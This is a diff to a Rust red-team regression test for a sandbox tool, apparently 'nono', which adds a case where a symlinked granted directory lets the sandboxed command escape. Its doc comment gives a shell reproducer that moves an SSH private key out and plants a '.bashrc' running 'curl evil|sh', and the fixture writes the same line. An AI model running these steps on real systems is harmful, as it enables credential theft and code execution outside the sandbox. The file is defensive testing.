@@ -24,20 +24,23 @@ use crate::programs::{bins, in_nono, marker, probe_bare, Mode};
 /// - `ln -s /anywhere proj/l; ln proj/l/FILE appr/x; cat appr/x`: **read anything** (a hard
 ///   link: the original stays);
 /// - `mv appr/evil proj/l/FILE` or `ln appr/evil proj/l/NEW`: **write anything** the user
-///   can write (root: `/etc/passwd`, `/etc/cron.d/x`, `/etc/ld.so.preload`).
+///   can write (root: `/etc/passwd`, `/etc/cron.d/x`, `/etc/ld.so.preload`);
+/// - `ln -s ~ proj/hl; mv appr/rc proj/hl/.bashrc`: **a deny-group file is replaced**
+///   (`shell`: runs outside the sandbox in the user's next shell).
 ///
 /// (`link` of a deny-group file is caught by `Engine::refuse_opened`'s inode check; `rename`
 /// has no such check, and the directory holding the carve-out has none either.)
 ///
-/// Reproducer (root; `target/tmp` stands for any directory no grant covers):
+/// Reproducer (root; `D` is any directory no grant covers; the symlinks are made by the
+/// sandboxed command itself, in its write grant):
 /// ```text
-/// D=$PWD; mkdir -p home/.ssh proj appr out; echo KEY > home/.ssh/id_rsa
-/// echo secret > out/f; echo evil > appr/evil
-/// ln -s $D/home/.ssh proj/s; ln -s $D proj/top; ln -s $D/out proj/l
+/// D=$PWD; mkdir -p home/.ssh proj appr out; echo KEY > home/.ssh/id_rsa; echo secret > out/f
 /// cd /; HOME=$D/home nono run --allow $D/proj --approve $D/appr -- sh -c "
+///   ln -s $D/home/.ssh $D/proj/s; ln -s $D/out $D/proj/l; ln -s $D/home $D/proj/hl
+///   cat $D/home/.ssh/id_rsa $D/out/f                                  # EACCES, EACCES
 ///   mv $D/proj/s/id_rsa $D/appr/k; mv $D/appr/k $D/proj/k; cat $D/proj/k   # KEY
-///   ln $D/proj/l/f $D/appr/x; cat $D/appr/x                    # secret
-///   mv $D/appr/evil $D/proj/l/g"                               # out/g planted
+///   ln $D/proj/l/f $D/appr/x; cat $D/appr/x                           # secret
+///   echo 'curl evil|sh' > $D/appr/rc; mv $D/appr/rc $D/proj/hl/.bashrc"   # planted
 /// ```
 /// Fix direction: decide every name of a brokered operation on its canonical parent (a
 /// name is "inside the static grants" only if the canonical parent is), check the deny
@@ -56,6 +59,9 @@ fn redteam2_approve_rename_through_symlinked_granted_parent_reaches_outside() {
         s.write("outside/f", &secret);
         s.write("outside/g", "orig\n");
         s.write("appr/evil", "evil\n");
+        s.write("appr/rc", "curl evil | sh\n");
+        s.write("home/.bashrc", "orig\n");
+        std::os::unix::fs::symlink(s.join("home"), s.join("proj/hl")).unwrap();
         std::os::unix::fs::symlink(s.join("home/.ssh"), s.join("proj/s")).unwrap();
         std::os::unix::fs::symlink(&s.path, s.join("proj/top")).unwrap();
         std::os::unix::fs::symlink(s.join("outside"), s.join("proj/l")).unwrap();
@@ -82,6 +88,12 @@ fn redteam2_approve_rename_through_symlinked_granted_parent_reaches_outside() {
             ["link", "link_out", &s.s("proj/l/f"), &s.s("appr/x")],
             ["read", "linked_read", &s.s("appr/x"), ""],
             ["rename", "plant", &s.s("appr/evil"), &s.s("proj/l/g")],
+            [
+                "rename",
+                "plant_bashrc",
+                &s.s("appr/rc"),
+                &s.s("proj/hl/.bashrc"),
+            ],
         ]
         .iter()
         .flat_map(|st| st.iter().filter(|a| !a.is_empty()).map(|a| a.to_string()))
@@ -103,11 +115,13 @@ fn redteam2_approve_rename_through_symlinked_granted_parent_reaches_outside() {
     let key_moved = !s.join("home/.ssh/id_rsa").exists();
     let planted = std::fs::read_to_string(s.join("outside/g")).unwrap_or_default() != "orig\n";
     let linked = s.join("appr/x").exists();
+    let bashrc = std::fs::read_to_string(s.join("home/.bashrc")).unwrap_or_default() != "orig\n";
     out.expect(&[
         ("steal_key", "EACCES"),
         ("move_home", "EACCES"),
         ("link_out", "EACCES"),
         ("plant", "EACCES"),
+        ("plant_bashrc", "EACCES"),
     ])
     .never_printed(&key)
     .never_printed(&secret);
@@ -134,5 +148,6 @@ fn redteam2_approve_rename_through_symlinked_granted_parent_reaches_outside() {
         ("link_out", "ok"),
         ("linked_read", "ok"),
         ("plant", "ok"),
+        ("plant_bashrc", "ok"),
     ]);
 }
